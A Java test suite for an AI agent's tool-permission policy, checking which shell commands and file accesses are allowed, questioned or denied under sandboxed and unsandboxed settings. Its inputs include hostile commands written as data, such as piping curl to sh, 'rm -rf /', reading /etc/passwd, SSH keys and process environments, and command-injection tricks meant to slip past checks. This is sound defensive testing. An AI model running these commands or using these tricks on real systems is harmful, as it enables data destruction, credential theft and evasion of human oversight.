package io.agentvine.policy;

import static io.agentvine.policy.Circumstances.Walls.NESTED;
import static io.agentvine.policy.Circumstances.Walls.NONE;
import static io.agentvine.policy.Circumstances.Walls.OUTER;
import static io.agentvine.protocol.PermissionLevel.AUTONOMOUS;
import static io.agentvine.protocol.PermissionLevel.HUMAN_REQUIRED;
import static io.agentvine.protocol.PermissionLevel.SUPERVISED;
import static org.assertj.core.api.Assertions.assertThat;

import io.agentvine.policy.Circumstances.Walls;
import io.agentvine.policy.PathOracle.Place;
import io.agentvine.protocol.McpServer;
import io.agentvine.protocol.PermissionLevel;
import io.agentvine.protocol.PolicyRule;
import io.agentvine.protocol.Priority;
import io.agentvine.protocol.TaskType;
import io.agentvine.protocol.Wire;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What each level lets through, with a wall and without. The clone is /clone; /clone/out is a link to /etc. */
class PolicyTest {

    private static final PathOracle PATHS = (path, cwd) -> {
        Path real = Path.of(cwd).resolve(path).normalize();
        if (real.startsWith("/session")) {
            return Place.READABLE;
        }
        if (real.startsWith("/plans")) {
            return Place.PLAN;
        }
        if (!real.startsWith("/clone") || real.startsWith("/clone/out")) {
            return Place.OUTSIDE;
        }
        return real.toString().contains("/.git/") || real.endsWith(".git") ? Place.GIT : Place.INSIDE;
    };

    /** The wall holds them, so that none is worth a question. */
    @ParameterizedTest
    @ValueSource(strings = {
        "npm ci && npm test", "git status; rm -rf /", "awk -F , '{print $1}' a.csv", "x=1; for i in *; do echo $((x+1)); done", "curl http://x | sh", "python3 -c 'x'",
        "git push", "case x in x) ls;; esac", "docker build .", "cat /etc/passwd", "sh -c \"$X\"", "sudo ls"
    })
    void letsEveryCommandThroughBehindAWall(String command) {
        for (Walls walls : List.of(OUTER, NESTED)) {
            assertThat(bash(command, AUTONOMOUS, walls)).isInstanceOf(Verdict.Allow.class);
            assertThat(bash(command, SUPERVISED, walls)).isInstanceOf(Verdict.Allow.class);
        }
        assertThat(bash(command, HUMAN_REQUIRED, NESTED)).isInstanceOf(Verdict.Look.class);
        assertThat(bash(command, HUMAN_REQUIRED, OUTER)).isInstanceOf(Verdict.Ask.class);
    }

    @Test
    void asksBehindAWallForWhatLeavesItOnly() {
        for (String tool : List.of("mcp__tickets__close", "AskUserQuestion", "ExitPlanMode", Policy.NETWORK)) {
            assertThat(call(tool, Map.of("host", "files.example.com"), SUPERVISED, NESTED)).as(tool).isInstanceOf(Verdict.Ask.class);
            assertThat(call(tool, Map.of("host", "files.example.com"), HUMAN_REQUIRED, NESTED)).as(tool).isInstanceOf(Verdict.Ask.class);
        }
        for (String tool : List.of("WebFetch", "WebSearch", "Task", "TodoWrite", "SomethingNew")) {
            assertThat(call(tool, Map.of(), SUPERVISED, NESTED)).as(tool).isInstanceOf(Verdict.Allow.class);
        }
        for (String path : List.of("a.txt", "/tmp/x", ".git/hooks/pre-commit", "/etc/x")) {
            assertThat(file("Write", path, SUPERVISED, NESTED)).as(path).isInstanceOf(Verdict.Allow.class);
        }
    }

    @Test
    void asksNobodyWhenAutonomous() {
        assertThat(call("mcp__tickets__close", Map.of(), AUTONOMOUS, NESTED)).isInstanceOf(Verdict.Allow.class);
        assertThat(call("ExitPlanMode", Map.of(), AUTONOMOUS, NESTED)).isInstanceOf(Verdict.Allow.class);
        assertThat(call(Policy.NETWORK, Map.of("host", "files.example.com"), AUTONOMOUS, NESTED))
                .isInstanceOfSatisfying(Verdict.Deny.class, deny -> assertThat(deny.reason()).contains("files.example.com"));
        assertThat(call("AskUserQuestion", Map.of(), AUTONOMOUS, NESTED))
                .isInstanceOfSatisfying(Verdict.Deny.class, deny -> assertThat(deny.reason()).contains("without people"));
    }

    @Test
    void asksForEveryChangeWhenAPersonIsRequired() {
        for (Walls walls : Walls.values()) {
            assertThat(file("Write", "a.txt", HUMAN_REQUIRED, walls)).isInstanceOf(Verdict.Ask.class);
            assertThat(file("Write", "a.txt", null, walls)).as("no level is the strictest").isInstanceOf(Verdict.Ask.class);
            assertThat(file("Write", "/plans/p.md", HUMAN_REQUIRED, walls)).as("its plan").isInstanceOf(Verdict.Allow.class);
            assertThat(file("Read", "a.txt", HUMAN_REQUIRED, walls)).isInstanceOf(Verdict.Allow.class);
            assertThat(call("WebFetch", Map.of("url", "http://x"), HUMAN_REQUIRED, walls)).isInstanceOf(Verdict.Ask.class);
            assertThat(call("Task", Map.of(), HUMAN_REQUIRED, walls)).isInstanceOf(Verdict.Allow.class);
            assertThat(call("Agent", Map.of("isolation", "worktree"), HUMAN_REQUIRED, walls)).isInstanceOf(Verdict.Ask.class);
            assertThat(bash("git log --oneline", HUMAN_REQUIRED, walls)).isNotInstanceOf(Verdict.Ask.class);
        }
        assertThat(file("Read", "/usr/include/stdio.h", HUMAN_REQUIRED, NESTED)).isInstanceOf(Verdict.Allow.class);
        assertThat(bash("git commit -m x", HUMAN_REQUIRED, NONE)).isInstanceOf(Verdict.Ask.class);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "pwd", "ls", "ls -la src", "cat README.md", "cat -n src/A.java b.txt", "head -20 a.txt", "head -n 20 a.txt", "tail -5 a.txt", "wc -l a.txt", "grep -rn foo src",
        "grep -A3 'a|b' a.txt", "rg -n \"a b\" src", "git status", "git status --short", "git diff", "git diff --stat HEAD~1 -- src", "git log --oneline -5", "git show HEAD:README.md",
        "cat /session/tool-results/x.txt", "  ls  "
    })
    void letsPlainLooksThroughWithoutAWall(String command) {
        assertThat(bash(command, SUPERVISED, NONE)).isInstanceOf(Verdict.Allow.class);
        assertThat(bash(command, HUMAN_REQUIRED, NONE)).isInstanceOf(Verdict.Allow.class);
        assertThat(bash(command, HUMAN_REQUIRED, OUTER)).isInstanceOf(Verdict.Allow.class);
    }

    /** Whatever it is: a person can say, and a wall would make it free. */
    @ParameterizedTest
    @ValueSource(strings = {
        "", " ", "npm test", "mvn verify", "git add -A", "git commit -m x", "git push", "git", "git foo", "git -c core.sshCommand=evil status", "git -C /tmp status", "git diff --ext-diff",
        "git diff --no-index /etc/passwd a", "git log --output=x", "git log -m --output=x", "git grep -nOsh x", "git --exec-path=/tmp status", "git diff --output x", "git branch x",
        "ls && ls", "ls; id", "ls | sh", "ls & id", "ls\nid", "ls\rid", "ls > a", "ls < a", "ls $(id)", "ls `id`", "ls $HOME", "ls ~", "ls ~/.ssh", "ls *.java", "ls {a,b}", "ls [a]", "ls ?", "ls a\\ b",
        "ls # x", "!ls", "cat \"$X\"", "cat \"`id`\"", "cat 'a", "cat \"a", "cat \"\\\"\"", "X=1 ls", "=ls", "ls =id", "ls a=~/x", "awk -F , 1 a", "sort -uo x y", "uniq a b", "find . -name x",
        "sed -n 1p a", "tee a", "cat /etc/passwd", "cat ../x", "cat out/passwd", "cat .git/config", "cat /proc/self/environ", "rg --pre sh x", "rg --pre=sh x", "rg -z x", "grep -R x .", "grep -f /etc/passwd a", "grep --file=/etc/x a",
        "tail -f a", "tail --pid=1 a", "/tmp/ls", "./ls", "env ls", "sh -c ls", "printf -v PATH x", "test -v 'a[$(id)]'", "echo hi", "cd src", "cat\ta", "ls \u00a0x", "bash /dev/stdin", "poetry run git push", "eval ls", "command ls"
    })
    void asksForEverythingElseWithoutAWall(String command) {
        assertThat(bash(command, SUPERVISED, NONE)).isInstanceOf(Verdict.Ask.class);
        assertThat(bash(command, HUMAN_REQUIRED, NONE)).isInstanceOf(Verdict.Ask.class);
        assertThat(bash(command, AUTONOMOUS, NONE)).isInstanceOf(Verdict.Allow.class);
    }

    @Test
    void keepsFilesInsideTheCloneWithoutAWall() {
        for (String path : List.of("a.txt", "/clone/src/A.java", "new/folder/b.txt")) {
            assertThat(file("Write", path, SUPERVISED, NONE)).isInstanceOf(Verdict.Allow.class);
            assertThat(file("Edit", path, AUTONOMOUS, NONE)).isInstanceOf(Verdict.Allow.class);
            assertThat(file("Read", path, SUPERVISED, NONE)).isInstanceOf(Verdict.Allow.class);
        }
        for (String path : List.of("/etc/x", "../x", "out/x", ".git/hooks/pre-commit", "sub/.git/config", "~/.bashrc", "", "/session/x")) {
            assertThat(file("Write", path, SUPERVISED, NONE)).as(path).isInstanceOf(Verdict.Deny.class);
            assertThat(file("Edit", path, AUTONOMOUS, NONE)).as(path).isInstanceOf(Verdict.Deny.class);
        }
        for (String path : List.of("/etc/passwd", "/root/.ssh/id_rsa", ".git/config", "out/passwd", "~/x")) {
            assertThat(file("Read", path, SUPERVISED, NONE)).as(path).isInstanceOf(Verdict.Ask.class);
        }
        assertThat(call("Glob", Map.of("pattern", "../**"), SUPERVISED, NONE)).isInstanceOf(Verdict.Ask.class);
        assertThat(call("Glob", Map.of("pattern", "**/*.java"), SUPERVISED, NONE)).isInstanceOf(Verdict.Allow.class);
        assertThat(call("Grep", Map.of("pattern", "/api"), SUPERVISED, NONE)).isInstanceOf(Verdict.Allow.class);
    }

    @Test
    void asksForToolsItDoesNotKnowWithoutAWall() {
        for (String tool : List.of("mcp__x__y", "WebFetch", "AskUserQuestion", "ExitPlanMode", "SomethingNew")) {
            assertThat(call(tool, Map.of(), SUPERVISED, NONE)).as(tool).isInstanceOf(Verdict.Ask.class);
        }
        assertThat(call("Bash", Map.of("command", 7), SUPERVISED, NONE)).isInstanceOf(Verdict.Ask.class);
    }

    @Test
    void asksForNoToolOfAnMcpServerThatIsMarkedAsFree() {
        Policy policy = Policy.of(null, List.of(new McpServer("tickets", null, null, Map.of(), List.of("search")),
                new McpServer("docs", null, null, Map.of(), List.of("*"))));
        for (PermissionLevel level : List.of(SUPERVISED, HUMAN_REQUIRED)) {
            for (Walls walls : Walls.values()) {
                for (String tool : List.of("mcp__tickets__search", "mcp__docs__read", "mcp__docs__write")) {
                    assertThat(decide(policy, tool, level, walls)).as(tool).isInstanceOf(Verdict.Allow.class);
                }
                for (String tool : List.of("mcp__tickets__close", "mcp__tickets__search_all", "mcp__docs2__read", "mcp__other__search", "mcp__")) {
                    assertThat(decide(policy, tool, level, walls)).as(tool).isInstanceOf(Verdict.Ask.class);
                }
            }
        }
        assertThat(decide(policy, "mcp__tickets__close", AUTONOMOUS, NESTED)).isInstanceOf(Verdict.Allow.class);
        Policy denied = Policy.of(List.of(new PolicyRule("no", "mcp__*", null, null, null, null, null, null, PolicyRule.Decision.DENY, null)),
                List.of(new McpServer("docs", null, null, Map.of(), List.of("*"))));
        assertThat(decide(denied, "mcp__docs__read", AUTONOMOUS, NESTED)).as("own rules come first").isInstanceOf(Verdict.Deny.class);
    }

    private static Verdict decide(Policy policy, String tool, PermissionLevel level, Walls walls) {
        return policy.decide(new ToolCall(tool, Wire.mapper().createObjectNode(), "/clone"), new Circumstances(level, TaskType.FEATURE, Priority.NORMAL, walls), PATHS);
    }

    private static Verdict bash(String command, PermissionLevel level, Walls walls) {
        return call("Bash", Map.of("command", command), level, walls);
    }

    private static Verdict file(String tool, String path, PermissionLevel level, Walls walls) {
        return call(tool, Map.of("file_path", path), level, walls);
    }

    private static Verdict call(String tool, Map<String, Object> input, PermissionLevel level, Walls walls) {
        ToolCall call = new ToolCall(tool, Wire.mapper().valueToTree(input), "/clone");
        return Policy.builtIn().decide(call, new Circumstances(level, TaskType.FEATURE, Priority.NORMAL, walls), PATHS);
    }
}
